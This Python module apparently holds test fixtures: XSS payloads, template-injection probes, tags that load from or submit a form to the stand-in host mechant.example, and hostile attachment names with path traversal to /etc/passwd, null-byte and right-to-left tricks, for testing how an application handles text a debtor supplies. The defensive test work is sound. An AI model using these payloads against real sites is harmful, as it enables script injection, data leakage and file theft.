"""What a debtor may put into a name, a number, a subject, a file name or a mail to harm whoever
reads it: the families of the public cheat sheets (OWASP filter evasion, HTML5 security), each in
our own words. `RUNS` would run on a page that trusts its text; `LOADS` would load, send or leave.
"""

WHERE = "https://mechant.example"
"""An address that nobody has: a request to it is seen and kept back."""

RUNS: tuple[str, ...] = (
    "<script>alert(1)</script>",
    "<ScRiPt >alert(2)</sCrIpT >",
    "<<script>alert(3);//<</script>",
    '"><script>alert(4)</script>',
    "'><svg/onload=alert(5)>",
    "</title><script>alert(6)</script>",
    "</textarea></style><script>alert(7)</script>",
    "<img src=x onerror=alert(8)>",
    '<img src="x"/onerror="alert`9`">',
    "<svg onload=alert(10)>",
    "<svg><script>alert&#40;11&#41;</script>",
    "<svg><animate onbegin=alert(12) attributeName=x dur=1s>",
    "<details open ontoggle=alert(13)>",
    "<input autofocus onfocus=alert(14)>",
    "<body onload=alert(15)>",
    "<video><source onerror=alert(16)></video>",
    "<audio src=x onerror=alert(17)>",
    "<iframe srcdoc='<script>parent.alert(18)</script>'></iframe>",
    '<iframe src="javascript:parent.alert(19)"></iframe>',
    "<object data='data:text/html,<script>alert(20)</script>'></object>",
    "<embed src='data:image/svg+xml,<svg onload=alert(21)>'>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(22)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(23)>'>",
    "<marquee onstart=alert(24)>Facture</marquee>",
    "<xss style='animation-name:x' onanimationstart=alert(25)>",
    "<style>@keyframes x{}</style><b style='animation:x 1s' onanimationstart=alert(26)>",
    "&lt;script&gt;alert(27)&lt;/script&gt;",
    "＜script＞alert(28)＜/script＞",
    "\u202e<script>alert(29)</script>\u202c",
    "<scr\u00adipt>alert(30)</scr\u00adipt>",
    "{{ 7*7 }}{% for x in ''.__class__.__mro__ %}{% endfor %}",
    "${alert(31)}#{alert(32)}<%= alert(33) %>",
    "javascript:alert(34)",
    "jav&#x09;ascript:alert(35)",
    '" onmouseover=alert(36) onfocus=alert(36) autofocus x="',
    "' autofocus onfocus='alert(37)",
    "`-alert(38)-`",
    "--><script>alert(39)</script><!--",
    "]]><script>alert(40)</script>",
    "<div hx-get=/ hx-trigger=load hx-on::load=alert(41) data-hx-on:load='alert(41)'>",
    "<div hx-on:htmx:load='alert(42)' hx-vals='js:{x:alert(42)}' hx-get='/' hx-trigger='load'>",
)
LOADS: tuple[str, ...] = (
    f"<img src={WHERE}/pixel.png>",
    f'<link rel=stylesheet href="{WHERE}/a.css">',
    f"<style>@import '{WHERE}/b.css'; body{{background:url({WHERE}/c.png)}}</style>",
    f'<b style="background:url({WHERE}/d.png);position:fixed;inset:0">x</b>',
    f'<meta http-equiv=refresh content="0;url={WHERE}/parti">',
    f'<base href="{WHERE}/">',
    f'<form id=f action="{WHERE}/prend"><input name=p></form><svg onload="f.submit()">',
    f'<iframe src="{WHERE}/cadre"></iframe>',
    f'<video poster="{WHERE}/e.png"></video><source srcset="{WHERE}/f.png 1x">',
    f'<svg><image href="{WHERE}/g.png"/><use href="{WHERE}/h.svg#x"/></svg>',
    f'<object data="{WHERE}/i.swf"></object><link rel=prefetch href="{WHERE}/j">',
    f'<a href="{WHERE}/clic" autofocus>Régler</a><script src="{WHERE}/k.js"></script>',
    f'<div hx-get="{WHERE}/l" hx-trigger="load">x</div>',
)
ALL = (*RUNS, *LOADS)

FILE_NAMES: tuple[str, ...] = (
    "<img src=x onerror=alert(50)>.pdf",
    'preuve.pdf"; filename="x.html',
    "../../etc/passwd",
    "facture\u202efdp.exe",
    "preuve.html",
    "dessin.svg",
    "CON.pdf\u0000.html",
)
"""What the pieces joined to a mail are called."""

PIECE = f"<html><script>alert(60)</script><img src={WHERE}/piece.png></html>".encode()
"""What they hold, whatever their name says."""
